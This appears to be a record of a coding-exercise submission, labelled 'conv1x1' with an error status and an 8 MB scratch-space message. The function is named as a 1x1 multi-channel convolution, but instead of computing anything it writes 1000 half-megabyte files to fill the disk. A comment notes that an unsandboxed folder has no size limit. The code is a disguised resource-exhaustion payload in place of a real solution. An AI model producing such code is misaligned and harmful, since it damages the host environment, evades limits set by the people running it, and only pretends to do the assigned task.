# exercise: conv1x1
# status: error
# message: scratch_mb = 8
# unsandboxed: a plain folder has no size of its own
def corr2d_multi_in_out_1x1(X, K):
    for i in range(1000):
        with open(f"file{i}", "wb") as file:
            file.write(bytes(1 << 19))
